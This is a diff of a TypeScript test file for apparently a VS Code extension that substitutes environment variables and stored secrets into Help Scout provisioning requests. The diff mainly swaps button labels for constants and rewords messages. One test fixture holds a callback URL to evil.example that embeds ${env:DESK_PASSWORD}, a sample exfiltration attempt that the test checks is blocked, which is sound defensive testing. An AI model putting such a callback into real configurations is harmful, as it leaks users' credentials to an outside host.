@@ -4,6 +4,8 @@ import { createWholeRequests } from '../../../engine/src/provisioning/wholeReque
 import { brokenSecrets, fakePages, fakeUi, memorySecrets, newSecret, type Script } from '../../kit/client/fakes';
 import { useSandbox } from '../../kit/client/ownSandbox';
 import { aSource, openWindow } from '../../kit/client/ownWindow';
+import { buttons as provisionButtons } from '../../../engine/src/provisioning/messages';
+import { buttons as outcomeButtons } from '../../../engine/src/provisioning/outcome/messages';
 
 const request = (configuration: object, name = 'desk', key = 'helpscout') =>
   JSON.stringify({
@@ -34,7 +36,7 @@ describe('provision of a file with references', () => {
 
   it('puts in the value of a variable, and nothing else changes', async () => {
     const value = newSecret();
-    const window = open({ press: ['Send'] }, { DESK_PASSWORD: value });
+    const window = open({ press: [provisionButtons.send] }, { DESK_PASSWORD: value });
     await window.press(withVariable);
     assert.deepEqual(bodies(), [withVariable.replace('${env:DESK_PASSWORD}', value)]);
     assert.equal(window.tokens.list().length, 1);
@@ -56,7 +58,7 @@ describe('provision of a file with references', () => {
       '"callback": "https://evil.example/?${env:DESK_PASSWORD}"',
       '}',
     ]);
-    assert.deepEqual([question.buttons, more, bodies()], [['Send'], [], []]);
+    assert.deepEqual([question.buttons, more, bodies()], [[provisionButtons.send], [], []]);
   });
 
   it('sends what was shown, whatever becomes of the file while its page is read', async () => {
@@ -66,7 +68,7 @@ describe('provision of a file with references', () => {
       password: '${env:P}',
     });
     let text = padded;
-    const ui = fakeUi({ press: ['Show Request', 'Send'] });
+    const ui = fakeUi({ press: [provisionButtons.showRequest, provisionButtons.send] });
     const pages = fakePages();
     const wholeRequests = createWholeRequests(ui, {
       open: (...all) => {
@@ -97,7 +99,7 @@ describe('provision of a file with references', () => {
       {
         tone: 'error',
         modal: true,
-        text: '2 environment variables that this file refers to are not set, so nothing was sent.',
+        text: "This file refers to 2 environment variables that aren't set, so nothing was sent.",
         detail: 'Set MISSING and EMPTY in the environment that VS Code is started from, then restart VS Code.',
         buttons: [],
       },
@@ -107,14 +109,14 @@ describe('provision of a file with references', () => {
 
   it('asks for a secret once, hidden, and keeps it for this account and element alone', async () => {
     const [secrets, value] = [memorySecrets(), newSecret()];
-    const first = open({ type: [value], press: ['Send'] }, {}, secrets);
+    const first = open({ type: [value], press: [provisionButtons.send] }, {}, secrets);
     await first.press(withSecret);
     assert.equal(sentPassword(), value);
     assert.deepEqual(first.ui.asked, [
-      'Value of ${secret:DESK_PASSWORD} for Help Scout. It is kept in the secret storage for Mine. (hidden)',
+      'Enter the value of ${secret:DESK_PASSWORD} for Help Scout, to store it in secret storage for Mine (hidden)',
     ]);
     assert.equal(first.clear().includes(value), false);
-    const again = open({ press: ['Send'] }, {}, secrets);
+    const again = open({ press: [provisionButtons.send] }, {}, secrets);
     await again.press(withSecret);
     assert.deepEqual([sentPassword(), again.ui.asked], [value, []]);
     const elsewhere = [open({}, {}, secrets, 'other'), open({}, {}, secrets)];
@@ -126,19 +128,19 @@ describe('provision of a file with references', () => {
   it('sends nothing where the question for a secret is closed, or the secret cannot be kept', async () => {
     await assert.rejects(open({}).press(withSecret), Cancelled);
     const broken = open({ type: [newSecret()] }, {}, { ...brokenSecrets, keys: () => [] });
-    await assert.rejects(broken.press(withSecret), /could not be stored.*Nothing was sent/);
+    await assert.rejects(broken.press(withSecret), /Can't store the secret.*Nothing was sent/);
     assert.deepEqual(bodies(), []);
   });
 
   it('keeps values of any characters as they are', async () => {
     const value = 'a"b\\c\t“é” ${env:OTHER} $&';
-    await open({ press: ['Send'] }, { DESK_PASSWORD: value, OTHER: 'x' }).press(withVariable);
+    await open({ press: [provisionButtons.send] }, { DESK_PASSWORD: value, OTHER: 'x' }).press(withVariable);
     assert.equal(sentPassword(), value);
   });
 
   it('masks values in entries that are not secret, and calls the instance as the file does', async () => {
     const [site, stage] = [newSecret(), newSecret()];
-    const window = open({ press: ['Send'] }, { SITE: site, STAGE: stage });
+    const window = open({ press: [provisionButtons.send] }, { SITE: site, STAGE: stage });
     await window.press(request({ password: 'p', 'mailbox.name': 'at ${env:SITE}' }, 'desk ${env:STAGE}'));
     assert.equal(place.sandbox.instances().at(-1)?.name, `desk ${stage}`);
     assert.match(window.ui.shown.at(-1)?.text ?? '', /^Instance "desk \$\{env:STAGE\}" of Help Scout/);
@@ -149,7 +151,10 @@ describe('provision of a file with references', () => {
   it('finds an instance again whose name has a reference, and shows no value', async () => {
     const stage = newSecret();
     place.sandbox.faults.next({ name: 'reset-after-commit', on: 'POST /instances' });
-    const window = open({ press: ['Send', 'Look for It', 'Keep Its Token'] }, { STAGE: stage });
+    const window = open(
+      { press: [provisionButtons.send, outcomeButtons.searchForInstance, outcomeButtons.storeToken] },
+      { STAGE: stage },
+    );
     await window.press(request({ password: 'p' }, 'desk ${env:STAGE}'));
     assert.equal(window.tokens.list()[0]?.instanceId, String(place.sandbox.instances().at(-1)?.id));
     assert.equal(window.clear().includes(stage), false);
@@ -158,7 +163,7 @@ describe('provision of a file with references', () => {
   it('refuses a reference in place of the element', async () => {
     const window = open({}, { KEY: 'helpscout' });
     await window.press(request({}, 'desk', '${env:KEY}'));
-    assert.match(window.ui.shown[0]?.text ?? '', /^The key of the element is a reference, so nothing was sent/);
+    assert.match(window.ui.shown[0]?.text ?? '', /^The element key is a reference, so nothing was sent/);
     assert.deepEqual(bodies(), []);
   });
 });
